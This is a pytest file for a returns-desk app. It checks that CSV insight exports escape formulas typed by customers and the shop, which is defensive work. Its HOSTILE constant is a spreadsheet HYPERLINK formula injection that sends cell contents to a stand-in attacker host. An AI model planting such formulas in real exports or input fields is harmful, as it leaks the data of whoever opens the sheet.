"""The insights CSV downloads: what customers and the shop wrote is exported as text a spreadsheet will not run.

Issue 15: a customer's description starting `=HYPERLINK(…)` came out unchanged in the prevention table's CSV,
and Excel and Sheets ran it. Every table goes through the same writer (`core.csv_safe`).
"""

import csv
import datetime as dt
import io

import pytest

from returns_desk.core import clock
from returns_desk.core.actors import Actor
from returns_desk.demo.shop.example import Line, example_order
from returns_desk.orders.models import Product
from returns_desk.returns import services

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1, "Open the photos")'


@pytest.fixture
def shop(reference_data):
    """One SKU returned far more often than its category, described by the customer with a formula."""
    tee = Product.objects.create(sku="T1", title="@Tee", category="tops", price=1000, stock=5, style="T1")
    sweater = Product.objects.create(sku="S2", title="Sweater", category="tops", price=2000, stock=5, style="S2")
    made = example_order(
        number="A1",
        email="sam@example.com",
        customer_name="Sam Lee",
        lines={"tee": Line(tee, quantity=6), "sweater": Line(sweater, quantity=20)},
    )
    services.return_create(
        order=made.order,
        items=[services.RequestedItem(made.lines["tee"].pk, 3, "damaged", HOSTILE)],
        by=Actor.customer(),
    )


def exported(client, table: str) -> list[list[str]]:
    today = clock.now().date()
    start, end = today - dt.timedelta(days=30), today
    response = client.get(f"/desk/insights/?start={start}&end={end}&category=&export={table}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_customers_formula_is_exported_as_text(client, shop, manager):
    client.force_login(manager)
    header, *rows = exported(client, "prevention")
    assert header[-1] == "In the customers' words"
    [tee] = rows
    assert tee[-1] == "'" + HOSTILE
    assert tee[:3] == ["T1", "'@Tee", "0.5"]  # the shop's product title too; the rate stays a number


def test_every_table_neutralises_text_and_keeps_numbers(client, shop, manager):
    client.force_login(manager)
    rows = exported(client, "skus")
    assert ["T1", "'@Tee", "tops", "6", "3", "0.5"] in rows
    assert ["S2", "Sweater", "tops", "20", "0", "0"] in rows
